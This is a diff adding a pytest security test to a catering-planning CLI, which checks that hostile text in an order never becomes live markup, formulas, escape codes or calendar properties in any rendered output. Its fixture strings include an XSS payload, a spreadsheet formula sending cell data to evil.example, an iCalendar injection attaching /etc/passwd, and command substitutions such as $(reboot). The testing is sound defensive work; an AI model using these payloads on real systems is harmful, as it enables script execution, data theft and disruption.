@@ -1,0 +1,105 @@
+"""What an order calls its food, people and places stays text in every form and paper: none of it is run or followed."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from functools import cache
+from html.parser import HTMLParser
+
+import icalendar
+import pytest
+
+from catering_cli.domain.plan import CateringPlan
+from catering_cli.intake import load
+from catering_cli.kitchen.cook import cook
+from catering_cli.render.forms import csv_tables
+from catering_cli.render.forms.writers import WRITERS
+from catering_cli.render.page import Page
+from catering_cli.render.sections.index import BOOKS, SECTIONS
+
+TEXTS = {
+    "markup": "</style></script><img src=x onerror=alert(1)> \x1b]0;owned\x07 \x1b[2J [link](javascript:alert(1))",
+    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1;'x')",
+    "calendar": "Stew\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTACH:file:///etc/passwd\u2028x",
+    "path": "../../../etc/passwd; $(reboot) `id` %s%n {0.__class__} ![x](http://evil.example/x.png)",
+}
+RUNS = {"img", "iframe", "object", "embed", "form", "script", "base"}
+"""Elements that fetch or run something: no paper has one, whatever its text says."""
+
+
+OWN = ("#", "data:,")
+"""Beginnings of the addresses that a page has of its own: places in it, and an empty icon."""
+
+
+class Read(HTMLParser):
+    """The elements of a page, and the attributes that would run or fetch something."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.elements: set[str] = set()
+        self.attributes: set[str] = set()
+
+    def handle_starttag(self, tag, attrs):
+        self.elements.add(tag)
+        runs = {name for name, _ in attrs if name.startswith("on") or name in ("src", "srcdoc")}
+        self.attributes |= runs | {value for name, value in attrs if name == "href" and not value.startswith(OWN)}
+
+
+@cache
+def planned(name: str) -> CateringPlan:
+    """A small order in which all that is free to be named has a hostile name."""
+    text = TEXTS[name]
+    recipe = {
+        "name": text, "course": "main", "yield": {"portions": 10, "stated": text}, "source": text, "vessel": text[:60],
+        "tags": [text],
+        "ingredients": [
+            {"item": text, "quantity": {"amount": 2, "unit": "kg"}, "preparation": text, "text": text},
+            {"item": f"salmon {text}", "quantity": {"amount": 1, "unit": "kg"}},
+        ],
+        "steps": [{"text": text, "minutes": 20, "equipment": [text], "skill": text[:40], "temperature": text[:30]}],
+    }  # fmt: skip
+    document = {
+        "event": {"name": text, "service_at": "2027-04-17T12:30:00-04:00", "venue": text, "style": "boxed"},
+        "guests": {
+            "guaranteed": 30,
+            "profiles": [{"needs": [text], "count": 2, "severity": "severe", "name": text}],
+            "extra_meals": [{"who": text, "count": 2}],
+        },
+        "places": [{"id": "base", "kind": "base"}, {"id": "hall", "name": text}],
+        "legs": [{"from": "base", "to": "hall", "minutes": 20, "vehicle": text}],
+        "services": [{"id": text, "at": "2027-04-17T12:30:00-04:00", "place": "hall"}],
+        "menu": [{"dish": text, "recipe": recipe}, "Caesar salad"],
+        "supply": [{"item": text, "supplier": text, "pack": "1 kg", "price": 3, "lead_days": 1}],
+        "products": [{"item": text, "brand": text, "label": [text], "read_on": text, "by": text}],
+        "budget": {"labor_per_hour": 20},
+    }
+    return cook(load.order_of(document, "order.json"))
+
+
+@pytest.mark.parametrize("name", TEXTS)
+def test_no_paper_runs_or_fetches_what_an_order_names(name):
+    plan = planned(name)
+    for section in (*BOOKS, *SECTIONS):
+        read = Read()
+        read.feed(WRITERS["html"](plan, Page(section=section)))
+        assert not read.elements & RUNS, section
+        assert not read.attributes, section
+        for form in ("terminal", "markdown"):
+            said = WRITERS[form](plan, Page(section=section, width=120))
+            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", said), section
+        prose = re.sub(r"```.*?```", "", said, flags=re.DOTALL)
+        assert not re.search(r"(?<!\\)\]\(|(?<!\\)<[a-z/]", prose), section
+
+
+@pytest.mark.parametrize("name", TEXTS)
+def test_no_cell_is_a_formula_and_no_calendar_line_is_another_property(name):
+    plan = planned(name)
+    for file, data in csv_tables.csv_files(plan).items():
+        assert file == re.sub(r"[^\w.-]", "", file)
+        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
+            assert not [cell for cell in row if re.match(r"\s*[=+@]|\s*-[^\d]", cell) and cell != "-"], file
+    calendar = icalendar.Calendar.from_ical(WRITERS["ics"](plan, Page()))
+    assert len(calendar.walk("VEVENT")) >= len(plan.timeline.blocks)
+    assert "ATTACH" not in {key for event in calendar.walk() for key in event}
